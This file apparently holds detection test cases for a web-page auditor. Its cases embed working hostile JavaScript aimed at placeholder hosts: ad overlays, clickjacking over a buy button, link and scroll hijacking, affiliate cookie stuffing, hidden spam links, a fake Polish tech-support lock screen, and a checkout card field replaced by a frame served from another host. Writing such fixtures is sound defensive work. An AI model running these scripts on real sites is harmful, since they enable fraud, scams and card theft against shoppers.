"""Still more of what must alert: other carriers, other moments, other disguises."""

from aiohttp import web

from auditor.evidence import Template
from tests.ads_cases.injected import AD, CARD, READY
from tests.ads_cases.site import PHONE, Case
from tests.ads_cases.slipped_in import STARS, TAG, by_tag

BANNER = "<body style=margin:0><a href=http://deals.test/go target=_top style=display:block;height:250px;background:gold>Cheaper here</a>"
PRICES = "['deals','bargain','outlet'].map(n=>'<p><a href=\"http://'+n+'.test/mug\">'+n+' 12.90</a></p>').join('')"


def _onward(_request: web.Request) -> web.StreamResponse:
    return web.HTTPFound("http://network.test/count?aff=9")


TURNED = [
    by_tag("K01 layer that is a frame of a blob", READY % f"const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['{BANNER}'],{{type:'text/html'}}));f.style.cssText='position:fixed;left:0;bottom:0;width:100%;height:250px;border:0;z-index:99';document.body.append(f)"),
    Case("K02 advertisement in a frame of a data address", "alert", *STARS, more={"stars": READY % f"const f=document.createElement('iframe');f.src='data:text/html,'+encodeURIComponent('{BANNER}');f.width=300;f.height=250;f.style.border=0;document.querySelector('main').prepend(f)"}),
    by_tag("K03 refresh that a script puts in", READY % "document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=\"3;url=http://casino.test/\">')"),
    by_tag("K04 links turned round when the press begins, and back again", "addEventListener('pointerdown',e=>{const a=e.target.closest&&e.target.closest('a');if(!a)return;const was=a.href;a.href='http://deals.test/r';setTimeout(()=>a.href=was,400)},true)"),
    by_tag("K05 clear link over the page once the pointer moves", "document.addEventListener('mousemove',()=>{const a=document.createElement('a');a.href='http://deals.test/c';a.target='_blank';a.style.cssText='position:fixed;inset:0;z-index:2147483647';document.body.append(a)},{once:true})"),
    Case("K06 cookie stuffed by a request of two hops", "alert", *STARS, more={"stars": READY % "fetch('http://partner.test/click?aff=9',{mode:'no-cors',credentials:'include'})"}, files={"partner.test/click": _onward, "network.test/count": lambda request: web.HTTPFound("http://shop.test/?aff=9")}),
    by_tag("K07 affiliate page in a hidden object of a closed shadow", READY % "const h=document.createElement('div');document.body.append(h);h.attachShadow({mode:'closed'}).innerHTML='<object data=\"http://partner.test/click?aff=7\" width=1 height=1></object>'", files={"partner.test/click": "<p>Welcome"}),
    Case("K09 frame for the card number that others slipped in", "alert", *STARS, body=CARD, template=Template.CHECKOUT, more={"stars": READY % "const c=document.querySelector('[name=cardnumber]'),f=document.createElement('iframe');f.src='http://securepay.test/field.html';f.width=320;f.height=44;c.replaceWith(f)"}, files={"securepay.test/field.html": "<body style=margin:0><input name=cardnumber autocomplete=cc-number style='width:300px;height:40px'>"}),
    by_tag("K10 box of the look of a button over the buy button", READY % "const r=document.querySelector('.add-to-cart').getBoundingClientRect(),d=document.createElement('div');d.textContent='Add to cart';d.style.cssText=`position:absolute;left:${r.x}px;top:${r.y+scrollY}px;width:${r.width}px;height:${r.height}px;background:#ddd;z-index:9;cursor:pointer`;d.onclick=()=>location.assign('http://deals.test/mug');document.body.append(d)"),
    by_tag("K11 links for search engines in a box nobody sees", READY % "document.body.insertAdjacentHTML('beforeend','<div style=display:none>'+['pills','loans','replica'].map(n=>`<a href=\"http://${n}.test/buy\">cheap ${n}</a>`).join(' ')+'</div>')"),
    Case("K12 links of no height in the served HTML", "alert", "own-server", "", body='<div style="height:1px;overflow:hidden;font-size:1px">made of stoneware <a href="http://pills.test/cheap">cheap pills</a> <a href="http://loans.test/buy">quick loans</a></div>'),
    by_tag("K13 prices of others in a closed shadow in the page", READY % f"const h=document.createElement('section');document.querySelector('main').append(h);h.attachShadow({{mode:'closed'}}).innerHTML='<b>Cheaper elsewhere</b>'+{PRICES}"),
    by_tag("K14 popover in the browser's top layer", READY % "const d=document.createElement('div');d.popover='manual';d.style.cssText='width:420px;height:240px;padding:0';d.innerHTML='<a href=\"http://deals.test/go\" style=\"display:block;height:240px;background:gold\">You have won</a>';document.body.append(d);d.showPopover()"),
    by_tag("K15 picture behind the page that opens a window", READY % "document.body.style.cssText='margin:0 220px;background:url(http://adx.test/skin.png) #fc0';document.documentElement.addEventListener('click',e=>{if(e.target===document.body||e.target===document.documentElement)window.open('http://deals.test/skin')})"),
    by_tag("K16 drawing that is a link over the page", READY % "document.body.insertAdjacentHTML('beforeend','<svg style=\"position:fixed;left:0;bottom:0;width:100%;height:220px;z-index:99\"><a xlink:href=\"http://deals.test/svg\"><rect width=\"2000\" height=\"220\" fill=\"gold\"></rect><text x=\"40\" y=\"90\">Cheaper here</text></a></svg>')"),
    by_tag("K17 page leaves when it is scrolled", "addEventListener('scroll',()=>{location.href='http://casino.test/s'},{once:true})"),
    by_tag("K18 phones are sent to an app store", "if(/Mobile/.test(navigator.userAgent))setTimeout(()=>{location.href='market://details?id=test.cleaner'},500)", loads=((PHONE, "direct"),)),
    by_tag("K19 locked computer, in Polish", READY % "const d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#03c;color:#fff;z-index:9999';d.innerHTML='<h2>Twój komputer został zablokowany</h2><p>Zadzwoń do pomocy technicznej Windows: 22 000 00 00</p>';document.body.append(d)"),
    by_tag("K20 advertisement in the words of a cookie notice", READY % "const d=document.createElement('div');d.style.cssText='position:fixed;left:0;right:0;bottom:0;height:220px;z-index:99';d.innerHTML='<a href=\"http://deals.test/go\" style=\"display:block;height:220px;background:gold\">We use cookies. Accept all and save 40 % here</a>';document.body.append(d)"),
    Case("K21 own script sells words that turn round when pointed at", "alert", "own-server", "", more={"app": READY % "const p=document.querySelector('main p:not(.price)');p.insertAdjacentHTML('beforeend','<a href=\"#\" id=more>Compare it with others</a>');p.lastChild.addEventListener('mouseover',e=>{e.target.href='http://deals.test/n'})"}),
    by_tag("K22 layer of an element of its own, styled from the script", "customElements.define('x-note',class extends HTMLElement{connectedCallback(){const r=this.attachShadow({mode:'closed'}),s=new CSSStyleSheet();s.replaceSync('a{position:fixed;left:0;bottom:0;width:100%;height:220px;background:gold;z-index:99}');r.adoptedStyleSheets=[s];r.innerHTML='<a href=http://deals.test/e>Cheaper here</a>'}});" + READY % "document.body.append(document.createElement('x-note'))"),
    Case("K23 layer in the checkout only", "alert", *TAG, template=Template.CHECKOUT, body=CARD, more={"gtm": f"if(document.querySelector('[name=cardnumber]')||document.readyState=='loading')addEventListener('load',()=>{{if(document.querySelector('[name=cardnumber]')){AD}}});"}),
]  # fmt: skip
